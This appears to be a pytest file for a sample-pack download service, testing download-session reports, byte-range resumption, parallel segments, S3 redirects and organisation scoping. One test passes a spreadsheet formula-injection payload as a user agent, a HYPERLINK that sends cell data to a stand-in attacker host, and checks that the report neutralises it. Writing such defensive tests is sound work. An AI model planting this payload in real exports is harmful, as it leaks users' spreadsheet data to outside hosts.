async def test_unknown_token_is_404(client, org, visitor, query):
    buyer = visitor()
    fails(await buyer.get(f"/download{query}", headers={"Accept": "application/json"}), 404, "not valid")
    error_page(await buyer.get(f"/download{query}"), 404, "This download link is not valid")
    fails(await buyer.get(f"/download/files/file_x/a.wav{query}"), 404, "not valid")


# --- the downloads report --------------------------------------------------------


async def test_report_has_one_row_per_session_with_what_was_really_sent(client, org, visitor):
    delivery = await sell(client, org.member, PACK, max_downloads=5)
    other_token = await mint(client, org.member, "epic-drums", PACK, customer_email="Second.Buyer@Example.com")
    curl, browser = visitor(user_agent="curl/8.5.0", ip="198.51.100.1"), visitor(user_agent=BROWSER, ip="198.51.100.2")

    sent_by_curl = 0
    for response in [
        await curl.get(delivery.url("Kicks/kick 01.wav"), headers={"Range": "bytes=0-699999"}),
        await curl.get(delivery.url("Kicks/kick 01.wav"), headers={"Range": "bytes=700000-"}),  # resumed
        await curl.get(delivery.url("Snares/snare.wav"), headers={"Range": "bytes=1000-4999"}),  # a peek, not the file
        await curl.get(delivery.url("README.txt")),
        await curl.get(delivery.url("README.txt")),  # fetched again
    ]:
        sent_by_curl += len(response.content)
    sent_by_browser = len((await browser.get(other_token.url("Snares/snare.wav"))).content)

    rows = {r["user_agent"]: r for r in await report(client, org)}
    assert set(rows) == {"curl/8.5.0", BROWSER}
    assert list(next(iter(rows.values()))) == [
        "session_id", "token_id", "product", "version", "customer_email", "started_at", "finished_at",
        "bytes_sent", "files", "ip", "user_agent", "status",
    ]  # fmt: skip
    by_curl = rows["curl/8.5.0"]
    assert by_curl["token_id"] == delivery.token_id
    assert (by_curl["product"], by_curl["version"]) == ("epic-drums", "1.0.0")
    assert by_curl["customer_email"] == "buyer@example.com"
    assert int(by_curl["bytes_sent"]) == sent_by_curl == len(KICK) + 4000 + 2 * len(README)
    assert by_curl["files"] == "2"  # the kick (resumed) and the README; the snare was only peeked at
    assert by_curl["ip"] == "198.51.100.1"
    assert by_curl["status"] == "partial"  # two of the three files
    assert by_curl["session_id"].startswith("dls_")
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", by_curl["started_at"])
    assert by_curl["finished_at"] >= by_curl["started_at"]
    by_browser = rows[BROWSER]
    assert by_browser["token_id"] == other_token.token_id
    assert by_browser["customer_email"] == "second.buyer@example.com"
    assert int(by_browser["bytes_sent"]) == sent_by_browser == len(SNARE)
    assert (by_browser["files"], by_browser["ip"]) == ("1", "198.51.100.2")


async def test_report_counts_a_file_fetched_in_parallel_segments_once(client, org, visitor):
    delivery = await sell(client, org.member, PACK)
    manager = visitor(user_agent="aria2/1.37.0")
    quarter = len(KICK) // 4
    segments = [f"bytes={i * quarter}-{(i + 1) * quarter - 1}" for i in range(3)] + [f"bytes={3 * quarter}-"]

    parts = await asyncio.gather(*(manager.get(delivery.url("Kicks/kick 01.wav"), headers={"Range": r}) for r in segments))

    assert b"".join(p.content for p in parts) == KICK
    [row] = await report(client, org)
    assert (row["files"], row["bytes_sent"], row["status"]) == ("1", str(len(KICK)), "partial")  # one of the three files


@pytest.mark.parametrize("listening", [True])
async def test_the_last_bytes_of_a_file_do_not_deliver_it_until_a_resume_sends_the_rest(client, org, visitor):
    delivery = await sell(client, org.member, {"Kicks/kick 01.wav": KICK, "README.txt": README}, max_downloads=1)
    buyer = visitor(user_agent="curl/8.5.0")

    tail = await buyer.get(delivery.url("Kicks/kick 01.wav"), headers={"Range": "bytes=-1000"})
    assert tail.status_code == 206 and tail.content == KICK[-1000:]
    assert (await buyer.get(delivery.url("README.txt"))).content == README

    [row] = await report(client, org)
    assert (row["files"], row["status"], row["bytes_sent"]) == ("1", "partial", str(1000 + len(README)))
    assert await finished_events() == [("Kicks/kick 01.wav", 1000, False), ("README.txt", len(README), True)]

    # The rest of the file, in two pieces that overlap the tail: now it is delivered.
    half = len(KICK) // 2
    assert (await buyer.get(delivery.url("Kicks/kick 01.wav"), headers={"Range": f"bytes=0-{half}"})).status_code == 206
    [row] = await report(client, org)
    assert (row["files"], row["status"]) == ("1", "partial")
    rest = await buyer.get(delivery.url("Kicks/kick 01.wav"), headers={"Range": f"bytes={half}-{len(KICK) - 500}"})
    assert rest.status_code == 206
    [row] = await report(client, org)
    assert (row["files"], row["status"]) == ("2", "completed")
    assert ("Kicks/kick 01.wav", len(KICK) - 500 - half + 1, True) in await finished_events()
    assert ("Kicks/kick 01.wav", half + 1, False) in await finished_events()
    assert await used_count(client, org, delivery) == 1


async def test_parallel_segments_with_a_gap_do_not_deliver_the_file(client, org, visitor):
    delivery = await sell(client, org.member, {"Kicks/kick 01.wav": KICK})
    manager = visitor(user_agent="aria2/1.37.0")
    quarter = len(KICK) // 4
    segments = [f"bytes=0-{quarter - 1}", f"bytes={quarter}-{2 * quarter - 1}", f"bytes={3 * quarter}-"]  # a quarter missing

    await asyncio.gather(*(manager.get(delivery.url("Kicks/kick 01.wav"), headers={"Range": r}) for r in segments))

    [row] = await report(client, org)
    assert (row["files"], row["status"]) == ("0", "interrupted")
    missing = await manager.get(delivery.url("Kicks/kick 01.wav"), headers={"Range": f"bytes={2 * quarter}-{3 * quarter - 1}"})
    assert missing.status_code == 206
    [row] = await report(client, org)
    assert (row["files"], row["status"]) == ("1", "completed")


async def test_a_file_fetched_again_and_again_in_one_session_counts_once(client, org, visitor):
    # Each finishing transfer reads only its own file's rows (and, for a
    # file already sent whole, none): the count must still be exact.
    delivery = await sell(client, org.member, {"Kicks/kick 01.wav": KICK, "empty.txt": b""})
    buyer = visitor(user_agent="curl/8.5.0")

    for _ in range(3):
        assert (await buyer.get(delivery.url("empty.txt"))).content == b""
    [row] = await report(client, org)
    assert (row["files"], row["status"]) == ("1", "partial")
    for _ in range(3):
        assert (await buyer.get(delivery.url("Kicks/kick 01.wav"))).content == KICK
    half = len(KICK) // 2
    await buyer.get(delivery.url("Kicks/kick 01.wav"), headers={"Range": f"bytes={half}-"})

    [row] = await report(client, org)
    assert (row["files"], row["status"]) == ("2", "completed")
    assert await used_count(client, org, delivery) == 1


@pytest.mark.parametrize(
    "spans, size, covered",
    [
        ([(0, 100)], 100, True),
        ([(0, 99)], 100, False),
        ([(99, 1)], 100, False),  # the last byte alone
        ([(50, 50), (0, 60)], 100, True),  # out of order, overlapping
        ([(0, 40), (41, 59)], 100, False),  # byte 40 missing
        ([(0, 40), (40, 0), (40, 60)], 100, True),
        ([(0, 0)], 0, True),  # an empty file
    ],
)
def test_byte_spans_cover_a_file_only_without_a_gap(spans, size, covered):
    assert covers(spans, size) is covered


async def test_report_filters_sessions_by_day(client, org, visitor):
    delivery = await sell(client, org.member, PACK)
    await visitor().get(delivery.url("README.txt"))
    today = datetime.now(UTC).date()
    yesterday, tomorrow = (today - timedelta(days=1)).isoformat(), (today + timedelta(days=1)).isoformat()

    assert len(await report(client, org, **{"from": today.isoformat(), "to": today.isoformat()})) == 1
    assert len(await report(client, org, **{"from": yesterday})) == 1
    assert len(await report(client, org, to=tomorrow)) == 1
    assert await report(client, org, to=yesterday) == []
    assert await report(client, org, **{"from": tomorrow}) == []
    assert await report(client, org, **{"from": yesterday, "to": yesterday}) == []


@pytest.mark.parametrize(
    ("params", "field"),
    [({"from": "2026-13-01"}, "from"), ({"to": "04/30/2026"}, "to"), ({"from": "2026-04-30", "to": "2026-04-01"}, "to")],
)
async def test_report_with_a_malformed_date_is_422_naming_the_field(client, org, params, field):
    response = await client.get("/api/reports/downloads", params=params, headers=org.admin)
    error = fails(response, 422)
    assert error.startswith(field + " "), error


async def test_report_neutralizes_a_user_agent_that_looks_like_a_formula(client, org, visitor):
    delivery = await sell(client, org.member, PACK)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert (await visitor(user_agent=formula).get(delivery.url("README.txt"))).content == README

    [row] = await report(client, org)

    assert row["user_agent"] == "'" + formula


async def test_report_shows_only_the_callers_organization(client, org, other_org, visitor):
    delivery = await sell(client, org.member, PACK)
    await visitor().get(delivery.url("README.txt"))

    assert len(await report(client, org)) == 1
    assert await report(client, other_org) == []
    fails(await client.get("/api/reports/downloads", headers=org.member), 403, "admin")


# --- presigned S3 redirects ---------------------------------------------------------


@pytest.mark.parametrize("storage", ["s3"])
@pytest.mark.parametrize("download_redirect", [True])
async def test_s3_redirect_sends_a_presigned_url_and_counts_the_download_once(client, org, visitor, s3_endpoint):
    delivery = await sell(client, org.member, PACK, max_downloads=1)
    buyer = visitor()

    first = await buyer.get(delivery.url("Kicks/kick 01.wav"))
    again = await buyer.get(delivery.url("README.txt"))

    assert first.status_code == 302
    location = first.headers["location"]
    assert location.startswith(s3_endpoint + "/") and "X-Amz-Signature=" in location
    assert delivery.secret not in location
    async with httpx.AsyncClient() as s3:
        fetched = await s3.get(location)
        assert fetched.status_code == 200
        assert fetched.content == KICK
        assert "kick 01.wav" in unquote(fetched.headers.get("content-disposition", ""))
        assert (await s3.get(again.headers["location"])).content == README
    assert await used_count(client, org, delivery) == 1
    fails(await visitor(user_agent="someone-else").get(delivery.url("README.txt")), 403)
    [row] = await report(client, org)
    assert row["status"] == "partial"  # two of the three files, both through S3
    assert int(row["bytes_sent"]) == len(KICK) + len(README)
    assert row["files"] == "2"


@pytest.mark.parametrize("download_redirect", [True])
async def test_redirect_setting_on_local_storage_still_streams(client, org, visitor):
    delivery = await sell(client, org.member, PACK)

    response = await visitor().get(delivery.url("Snares/snare.wav"))

    assert response.status_code == 200 and response.content == SNARE


@pytest.mark.parametrize("month", range(1, 13))
def test_the_pages_expiry_reads_as_strftime_wrote_it_in_english(month):
    moment = datetime(2027, month, 5, 14, 30, 59, tzinfo=UTC)
    assert expires_text(moment) == moment.strftime("%d %B %Y, %H:%M UTC")  # the tests run in the C locale
    assert expires_text(moment.astimezone(timezone(timedelta(hours=-7)))) == moment.strftime("%d %B %Y, %H:%M UTC")
